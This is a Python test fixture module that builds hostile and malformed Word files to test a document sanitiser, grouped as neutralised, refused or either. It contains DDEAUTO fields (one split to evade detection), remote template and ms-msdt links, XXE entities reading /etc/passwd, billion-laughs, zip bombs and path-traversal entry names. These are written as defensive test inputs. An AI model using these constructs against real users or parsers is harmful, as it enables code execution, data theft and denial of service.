"""Word documents that want to run, fetch, hide, tell or burst."""

import io
import struct
import zipfile
from collections.abc import Callable

from tests.casework.files import making
from tests.casework.files.making import CANARY, RELS, WORD, docx, docx_parts, part, ties, types, words, zipped

Making = Callable[[], bytes]
_TEXT = words("A letter about school.")


def _of(parts: dict[str, str | bytes]) -> Making:
    return lambda: zipped({**docx_parts(), **parts})


def _tied(body: str, *those: tuple[str, str, str, bool], **more: str | bytes) -> Making:
    return _of({"word/document.xml": part(_TEXT + body), RELS: ties(*those), **more})


def _field(told: str, *pieces: str) -> str:
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    text = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (told, *pieces))
    shown = "<w:r><w:t>shown</w:t></w:r>"
    return f"<w:p>{mark.format('begin')}{text}{mark.format('separate')}{shown}{mark.format('end')}</w:p>"


def _settings(body: str, *those: tuple[str, str, str, bool]) -> Making:
    return _of(
        {
            "[Content_Types].xml": types(word__settings=WORD + "settings+xml"),
            RELS: ties(("rId1", "settings", "settings.xml", False)),
            "word/settings.xml": part(body, "settings"),
            "word/_rels/settings.xml.rels": ties(*those),
        }
    )


_PICTURE = '<w:p><w:r><w:drawing><a:blip r:{}="rId1"/></w:drawing></w:r></w:p>'

NEUTRALISED: dict[str, Making] = {
    "who made it": docx,
    "details of its own": _of({"docProps/custom.xml": CANARY, "docProps/app.xml": CANARY}),
    "a small picture of itself": _of({"docProps/thumbnail.jpeg": making.jpeg()}),
    "parts that nothing leads to": _of({"word/hidden.xml": CANARY, "run.exe": b"MZ" + CANARY.encode()}),
    "XML of its own": _tied("", ("rId1", "customXml", "../customXml/item1.xml", False), **{"customXml/item1.xml": CANARY}),
    "a template elsewhere": _settings(
        '<w:attachedTemplate r:id="rId1"/>', ("rId1", "attachedTemplate", f"http://a.example/{CANARY}.dotm", True)
    ),
    "a template on a share": _settings(
        '<w:attachedTemplate r:id="rId1"/>', ("rId1", "attachedTemplate", f"\\\\a.example\\{CANARY}", True)
    ),
    "a mailing list elsewhere": _settings(
        f'<w:mailMerge><w:query w:val="{CANARY}"/></w:mailMerge>', ("rId1", "mailMergeSource", f"file:///{CANARY}", True)
    ),
    "every sitting": _settings(f'<w:rsids><w:rsid w:val="{CANARY}"/></w:rsids><w:docVars><w:docVar w:val="{CANARY}"/></w:docVars>'),
    "a picture elsewhere": _tied(_PICTURE.format("link"), ("rId1", "image", f"http://a.example/{CANARY}.png", True)),
    "a picture on a share": _tied(_PICTURE.format("link"), ("rId1", "image", f"file://a.example/{CANARY}", True)),
    "an old picture elsewhere": _tied(f'<w:pict><v:imagedata src="http://a.example/{CANARY}" o:href="{CANARY}"/></w:pict>'),
    "a thing inside": _tied(
        '<w:object><o:OLEObject r:id="rId1" ProgID="Package"/></w:object>',
        ("rId1", "oleObject", "embeddings/a.bin", False),
        **{"word/embeddings/a.bin": CANARY},
    ),
    "a thing elsewhere": _tied(
        '<w:object><o:OLEObject Type="Link" r:id="rId1"/></w:object>', ("rId1", "oleObject", f"mhtml:http://a/{CANARY}!x", True)
    ),
    "a sheet inside": _tied("", ("rId1", "package", "embeddings/a.xlsx", False), **{"word/embeddings/a.xlsx": CANARY}),
    "a button": _tied('<w:control r:id="rId1"/>', ("rId1", "control", "activeX/a.xml", False), **{"word/activeX/a.xml": CANARY}),
    "a web page in the middle": _tied('<w:altChunk r:id="rId1"/>', ("rId1", "aFChunk", "a.html", False), **{"word/a.html": CANARY}),
    "a document in the middle": _tied('<w:subDoc r:id="rId1"/>', ("rId1", "subDocument", f"file:///{CANARY}", True)),
    "a frame elsewhere": _tied("", ("rId1", "frame", f"http://a.example/{CANARY}", True)),
    **{
        f"a link to {start}": _tied(
            '<w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink>', ("rId1", "hyperlink", start + CANARY, True)
        )
        for start in ("file:///c:/", "\\\\a.example\\", "javascript:", "ms-msdt:", "search-ms:", " data:text/html,")
    },
    "a field that calls a program": _tied(_field(f'DDEAUTO c:\\\\x "{CANARY}"')),
    "a field in pieces": _tied(_field("DD", "EAU", f'TO x "{CANARY}"')),
    "a field in a field": _tied(_field("QUOTE ", f"</w:instrText></w:r>{_field(CANARY)}<w:r><w:instrText>").replace("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>CANARY", "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>CANARY").replace("</w:p><w:r><w:instrText>", "<w:r><w:instrText>")),
    "a field that fetches a picture": _tied(_field(f'INCLUDEPICTURE "http://a.example/{CANARY}" \\d')),
    "a field that fetches words": _tied(f'<w:fldSimple w:instr="INCLUDETEXT &quot;{CANARY}&quot;">{_TEXT}</w:fldSimple>'),
    "a field that never ends": _tied(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE {CANARY}</w:instrText></w:r></w:p>'),
    "a field that only ends": _tied(f'<w:p><w:r><w:instrText>DDE {CANARY}</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "a field of the other standard": _tied(_field(f"LINK Excel.Sheet {CANARY}").replace("w:instrText", "w:delInstrText")),
    "a photo with its place": _tied(
        _PICTURE.format("embed"), ("rId1", "image", "media/a.jpeg", False), **{"word/media/a.jpeg": making.jpeg()}
    ),
    "a picture with words": _tied(
        _PICTURE.format("embed"), ("rId1", "image", "media/a.png", False), **{"word/media/a.png": making.png()}
    ),
    "a picture that is none": _tied(
        _PICTURE.format("embed"), ("rId1", "image", "media/a.emf", False), **{"word/media/a.emf": b"\1\0\0\0" + CANARY.encode()}
    ),
    "a picture of ten thousand million dots": _tied(
        _PICTURE.format("embed"),
        ("rId1", "image", "media/a.png", False),
        **{"word/media/a.png": making.png_of(making.header(100_000, 100_000), (b"tEXt", CANARY.encode()))},
    ),
    "where a picture lay": _tied(f'<a:cNvPr id="1" descr="C:\\Users\\{CANARY}\\a.jpg"/>'),
    "comments of the XML": _tied(f"<!-- {CANARY} --><?x {CANARY}?>"),
    "a letter font inside": _of(
        {
            "[Content_Types].xml": types(word__fontTable=WORD + "fontTable+xml"),
            RELS: ties(("rId1", "fontTable", "fontTable.xml", False)),
            "word/fontTable.xml": part('<w:font w:name="A"><w:embedRegular r:id="rId9"/></w:font>', "fonts"),
            "word/_rels/fontTable.xml.rels": ties(("rId9", "font", "fonts/a.odttf", False)),
            "word/fonts/a.odttf": CANARY,
        }
    ),
    "a macro's settings": _tied("", ("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "v.xml", False), **{"word/v.xml": CANARY}),
    "another word for the same space": _of(
        {"word/document.xml": part(_TEXT).replace("<w:body>", f'<q:altChunk xmlns:q="{making.W}" r:id="x{CANARY}"/><w:body>')}
    ),
    "a program before it": lambda: docx() + b"MZ" + CANARY.encode(),
}


# ----------------------------------------------------------------------------- refused


def _with_entry(change: Callable[[zipfile.ZipInfo], None], data: bytes = b"x") -> Making:
    def make() -> bytes:
        out = io.BytesIO(docx())
        with zipfile.ZipFile(out, "a") as package:
            entry = zipfile.ZipInfo("word/odd.xml")
            change(entry)
            package.writestr(entry, data)
        return out.getvalue()

    return make


def _named(name: str) -> Making:
    """The name is put in after the package is made, because Python would not write it."""
    plain = "word/" + "z" * (len(name.encode()) - 5)
    return lambda: zipped({**docx_parts(), plain: "x"}).replace(plain.encode(), name.encode())


def _link(entry: zipfile.ZipInfo) -> None:
    entry.create_system, entry.external_attr = 3, 0o120777 << 16


def _twice() -> bytes:
    return zipped({**docx_parts(), "word/document.xmm": part(words("Another."))}).replace(b"document.xmm", b"document.xml")


def _locked() -> bytes:
    data = bytearray(docx())
    at = data.index(b"PK\1\2")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\1\2", at + 1)
    return bytes(data)


def _lying() -> bytes:
    """It says that it unpacks to nine bytes."""
    data = bytearray(zipped({**docx_parts(), "word/document.xml": part("<w:p/>" * 900_000)}))
    at = data.rindex(b"PK\1\2", 0, data.rindex(b"word/document.xml"))
    data[at + 24 : at + 28] = struct.pack("<I", 9)
    return bytes(data)


def _overlapping() -> bytes:
    """Many names in the list for one heap of bytes."""
    data = zipped(docx_parts())
    end = data.rindex(b"PK\5\6")
    first = data.index(b"PK\1\2")
    second = data.index(b"PK\1\2", first + 4)
    entry = data[first:second]
    more = b"".join(entry.replace(b"[Content_Types].xml", b"[Content_T%04d].xml" % n) for n in range(50))
    count = struct.unpack("<H", data[end + 10 : end + 12])[0] + 50
    size = struct.unpack("<I", data[end + 12 : end + 16])[0] + len(more)
    tail = data[end : end + 8] + struct.pack("<HHI", count, count, size) + data[end + 16 :]
    return data[:end] + more + tail


def _other(main: str, name: str = "word/document.xml") -> Making:
    return _of({"[Content_Types].xml": types(main), name: part(_TEXT)})


def _doctype(told: str, body: str) -> Making:
    return _of({"word/document.xml": f"<!DOCTYPE w:document {told}>" + part(body).partition("?>")[2]})


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"

REFUSED: dict[str, Making] = {
    "macros": _of({"word/vbaProject.bin": b"x"}),
    "macros by its kind": _other("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "macros under another name": _of(
        {"[Content_Types].xml": types(word__innocent="application/vnd.ms-office.vbaProject")}
    ),
    "a template": _other(WORD + "template.main+xml"),
    "a sheet": _other(_SHEET),
    "a zip file of other things": lambda: zipped({"a.txt": "hello", "b.exe": b"MZ"}),
    "an empty zip file": lambda: b"PK\5\6" + b"\0" * 18,
    "a zip file in a zip file": lambda: zipped({"a.zip": zipped({"b.zip": docx()})}),
    "an open document": lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}, 0),
    "a bomb": _of({"word/document.xml": part(" " * 25_000_000)}),
    "a bomb too large for any part": _of({"word/big.xml": b"\0" * 31_000_000}),
    "many parts that are too large together": _of({f"word/{n}.xml": b"\0" * 999_000 for n in range(101)}),
    "more parts than anybody needs": _of({f"word/{n}": b"" for n in range(1501)}),
    "a size that lies": _lying,
    "a heap unpacked many times": _overlapping,
    "a name that climbs out": _named("../../etc/cron.d/a"),
    "a name from the root": _named("/etc/passwd"),
    "a name with a drive": _named("C:/windows/a"),
    "a name with a backslash": _named("..\\..\\windows\\a"),
    "a name with nothing in it": _named("word/a\0b.xml"),
    "a link to elsewhere": _with_entry(_link, b"/etc/passwd"),
    "two parts of one name": _twice,
    "two names that differ in capitals": _of({"WORD/Document.xml": part(_TEXT)}),
    "a lock": _locked,
    "packed in a rare way": lambda: zipped(docx_parts(), zipfile.ZIP_BZIP2),
    "a document type": _doctype("", _TEXT),
    "words from a file": _doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', words("&amp;x;")),
    "words from an address": _doctype('[<!ENTITY % x SYSTEM "http://a.example/x.dtd"> %x;]', _TEXT),
    "a thousand million laughs": _doctype(f'[<!ENTITY l0 "ha">{_LAUGHS}]', words("x")),
    "an entity from nowhere": _of({"word/document.xml": part("<w:p>&laugh;</w:p>")}),
    "a document type in the list of kinds": _of({"[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b "c">]>' + types()}),
    "a document type in the relationships": _of({"_rels/.rels": "<!DOCTYPE a SYSTEM 'b'>" + ties()}),
    "elements in elements": _of({"word/document.xml": part("<w:p>" * 5000 + "</w:p>" * 5000)}),
    "XML that is not finished": _of({"word/document.xml": part(_TEXT)[:-9]}),
    "no document": lambda: zipped({name: data for name, data in docx_parts().items() if "document" not in name}),
    "no relationships": lambda: zipped({name: data for name, data in docx_parts().items() if "rels" not in name}),
    "a document elsewhere": _of({"_rels/.rels": ties(("rId1", "officeDocument", "http://a.example/a.docx", True))}),
    "an alphabet nobody knows": _of({"word/document.xml": part(_TEXT).replace("UTF-8", "x-hidden")}),
    "two ties of one name": _tied("", ("rId1", "image", "a.png", False), ("rId1", "image", "b.png", False)),
    **{f"cut at {share}": (lambda share: lambda: docx()[: int(len(docx()) * share)])(share) for share in (0.01, 0.1, 0.3, 0.5, 0.7, 0.9, 0.98)},
    "the beginning of one": lambda: b"PK\3\4" + making.noise(4000),
    "an older Word document": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + making.noise(4000),
}

EITHER: dict[str, Making] = {
    "a million paragraphs": lambda: docx(body="<w:p><w:r/></w:p>" * 300_000 + making.words(str(making.noise(90_000)).replace("<", "").replace("&", ""))),
    "a circle of parts": _of(
        {
            "[Content_Types].xml": types(word__header1=WORD + "header+xml"),
            RELS: ties(("rId1", "header", "header1.xml", False)),
            "word/header1.xml": part(_TEXT, "hdr"),
            "word/_rels/header1.xml.rels": ties(("rId1", "header", "header1.xml", False), ("rId2", "header", "document.xml", False)),
        }
    ),
    "in UTF-16": _of({"word/document.xml": part(_TEXT).replace("UTF-8", "UTF-16").encode("utf-16")}),
}
